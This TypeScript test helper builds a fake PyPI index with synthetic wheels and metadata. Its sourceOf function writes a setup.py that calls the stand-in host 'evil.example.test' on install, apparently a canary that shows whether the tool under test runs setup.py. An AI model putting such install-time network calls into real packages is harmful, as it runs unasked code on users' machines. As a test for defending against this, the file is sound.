import { createHash } from 'node:crypto';
import { today } from './npm-universe.ts';
import type { StaticFile } from './static-registry.ts';
import { zipOf } from './zip.ts';

/** What a test says of one version of a Python package. */
export interface PythonParts {
  /** `Requires-Dist` lines. */
  readonly requires?: readonly string[];
  readonly requiresPython?: string;
  /** Before `today`; 400 unless said. */
  readonly daysOld?: number;
  readonly yanked?: boolean;
  /** Modules of the wheel by their path, in the place of one that only tells its version. */
  readonly files?: Readonly<Record<string, string>>;
  /** Only a source archive, whose setup.py would ring. */
  readonly onlySource?: boolean;
}

/** The packages that a test's index holds: `name@version` → its parts. */
export type PythonUniverse = Readonly<Record<string, PythonParts>>;

const dayMs = 86_400_000;

/** The files of a simple index (PEP 691, 658) with wheels of our own; `html` writes its pages as PEP 503 has them. */
export function pypiFiles(
  universe: PythonUniverse,
  address: string,
  form: 'json' | 'html' = 'json',
): ReadonlyMap<string, StaticFile> {
  const files = new Map<string, StaticFile>();
  const pages = new Map<string, Record<string, unknown>[]>();
  for (const [label, parts] of Object.entries(universe)) {
    const at = label.lastIndexOf('@');
    const [name, version] = [label.slice(0, at), label.slice(at + 1)];
    const archive = parts.onlySource === true ? sourceOf(name, version) : wheelOf(name, version, parts);
    files.set(`files/${archive.name}`, { body: archive.body, type: 'application/octet-stream' });
    if (archive.metadata !== undefined) files.set(`files/${archive.name}.metadata`, { body: archive.metadata });
    const digest = (body: Buffer | string) => createHash('sha256').update(body).digest('hex');
    const entry = {
      filename: archive.name,
      url: `${address}files/${archive.name}`,
      hashes: { sha256: digest(archive.body) },
      yanked: parts.yanked ?? false,
      'upload-time': new Date(today - (parts.daysOld ?? 400) * dayMs).toISOString(),
      ...(parts.requiresPython === undefined ? {} : { 'requires-python': parts.requiresPython }),
      ...(archive.metadata === undefined ? {} : { 'core-metadata': { sha256: digest(archive.metadata) } }),
    };
    pages.set(name, [...(pages.get(name) ?? []), entry]);
  }
  for (const [name, entries] of pages) {
    const json = JSON.stringify({ meta: { 'api-version': '1.1' }, name, files: entries });
    const links = entries.map(({ url, filename, hashes }) => {
      const { sha256 } = hashes as { sha256: string };
      return `<a href="${url}#sha256=${sha256}">${filename}</a><br>`;
    });
    files.set(
      `simple/${name}/`,
      form === 'json'
        ? { body: json, type: 'application/vnd.pypi.simple.v1+json' }
        : { body: `<!DOCTYPE html><html><body>${links.join('\n')}</body></html>`, type: 'text/html' },
    );
  }
  return files;
}

interface Archive {
  readonly name: string;
  readonly body: Buffer;
  readonly metadata?: string;
}

function wheelOf(name: string, version: string, { requires = [], requiresPython, files }: PythonParts): Archive {
  const stem = `${name.replaceAll('-', '_')}-${version}`;
  const metadata = [
    'Metadata-Version: 2.1',
    `Name: ${name}`,
    `Version: ${version}`,
    ...(requiresPython === undefined ? [] : [`Requires-Python: ${requiresPython}`]),
    ...requires.map((each) => `Requires-Dist: ${each}`),
    '',
  ].join('\n');
  const info = `${stem}.dist-info`;
  const module = name.replaceAll('-', '_');
  const modules = files ?? { [`${module}/__init__.py`]: `version = "${version}"\n` };
  const body = zipOf({
    ...modules,
    [`${info}/METADATA`]: metadata,
    [`${info}/WHEEL`]: 'Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
    [`${info}/RECORD`]: `${Object.keys(modules)
      .map((path) => `${path},,\n`)
      .join('')}${info}/METADATA,,\n${info}/WHEEL,,\n${info}/RECORD,,\n`,
  });
  return { name: `${stem}-py3-none-any.whl`, body, metadata };
}

function sourceOf(name: string, version: string): Archive {
  const stem = `${name}-${version}`;
  const setup = 'import urllib.request\nurllib.request.urlopen("http://evil.example.test/")\n';
  return {
    name: `${stem}.zip`,
    body: zipOf({ [`${stem}/setup.py`]: setup, [`${stem}/PKG-INFO`]: 'Metadata-Version: 2.1\n' }),
  };
}
